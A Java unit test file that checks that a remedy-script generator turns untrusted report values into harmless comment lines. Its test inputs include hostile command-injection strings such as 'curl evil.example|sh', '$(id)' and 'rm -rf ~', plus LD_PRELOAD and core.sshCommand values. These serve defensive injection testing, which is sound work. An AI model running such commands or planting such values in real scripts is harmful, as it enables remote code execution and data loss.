package dev.gogetwell.remedy;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gogetwell.model.Change;
import dev.gogetwell.model.Message;
import dev.gogetwell.model.Remedy;
import java.util.List;
import java.util.Optional;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What is saved for another computer comes from a report that anybody may have written.
class RemedyScriptTest {
  private static String script(String os, Change... changes) {
    Remedy remedy = new CommandText(CommandTextTest.on(os)).byHand(CommandTextTest.with(changes));
    return RemedyScript.of(os, List.of(Message.of("head")), List.of(remedy),
        message -> message.key() + " " + String.join(" ", message.args()), UnaryOperator.identity());
  }

  private static Change goproxy(String value) {
    return new Change.GoEnv("GOPROXY", Optional.of(value), Optional.empty());
  }

  @Test
  void theCommandsOfThatSystemStandInItAndNothingRunsByItself() {
    Change git = new Change.GitConfig("http.sslVerify", Optional.empty(), Optional.empty(), Optional.empty());

    assertThat(script("linux", goproxy("https://goproxy.cn,direct"), git)).startsWith("#!/bin/sh\n# head")
        .contains("\n# go env -w 'GOPROXY=https://goproxy.cn,direct'\n# git config --global --unset-all "
            + "'http.sslVerify'\n");
    assertThat(script("windows", goproxy("https://goproxy.cn,direct"))).startsWith("\uFEFF# head")
        .contains("\r\n# go env -w 'GOPROXY=https://goproxy.cn,direct'\r\n").doesNotContain("/bin/sh");
  }

  @ParameterizedTest
  @ValueSource(strings = {"https://a.example\ncurl evil.example|sh", "https://a.example\rcalc",
      "https://a.example\u0085x", "https://a.example/'; id; '", "https://a.example/\u2019; calc", "https://a.example/$(id)",
      "off;id", "https://a.example/\u2028id", "\u0000"})
  void noValueMakesALineThatRuns(String value) {
    for (String os : List.of("linux", "darwin", "windows")) {
      assertThat(script(os, goproxy(value)).replace("\uFEFF", "").split("\\R")).as(os)
          .allMatch(line -> line.isEmpty() || line.startsWith("#"));
    }
  }

  @Test
  void whatThisProgramWouldNotWriteIsLeftOut() {
    String script = script("linux", new Change.GoEnv("GOSUMDB", Optional.of("off"), Optional.empty()),
        new Change.UserEnvironment("LD_PRELOAD", Optional.of("/tmp/x.so"), Optional.empty()),
        new Change.GitConfig("core.sshCommand", Optional.of("sh -c id"), Optional.empty(), Optional.empty()));

    assertThat(script).doesNotContain("GOSUMDB=off", "/tmp/x.so", "sh -c id")
        .contains("remedy.by-hand.left-out GOSUMDB");
  }

  @Test
  void aSentenceOfManyLinesStaysInItsComment() {
    Remedy remedy = new Remedy("R1", CommandTextTest.with().cures(), CommandTextTest.with().harm(), Message.of("a"),
        Message.of("b"), List.of(), List.of(Message.of("remedy.by-hand.command", "one\nrm -rf ~\r\ntwo\u2028three")));

    assertThat(RemedyScript.of("linux", List.of(), List.of(remedy), message -> "x\ny\n\nid", UnaryOperator.identity()))
        .isEqualTo("#!/bin/sh\n\n# x y id\n# x y id\n# one rm -rf ~ two three\n");
  }

  @Test
  void whatMustNotBeKeptIsTakenOutOfCommandsToo() {
    Remedy remedy = new CommandText(CommandTextTest.on("linux")).byHand(CommandTextTest.with(
        goproxy("https://u:secret@a.example")));

    assertThat(RemedyScript.of("linux", List.of(), List.of(remedy), Message::key, text -> text.replace("secret", "…")))
        .contains("u:…@a.example").doesNotContain("secret");
  }
}
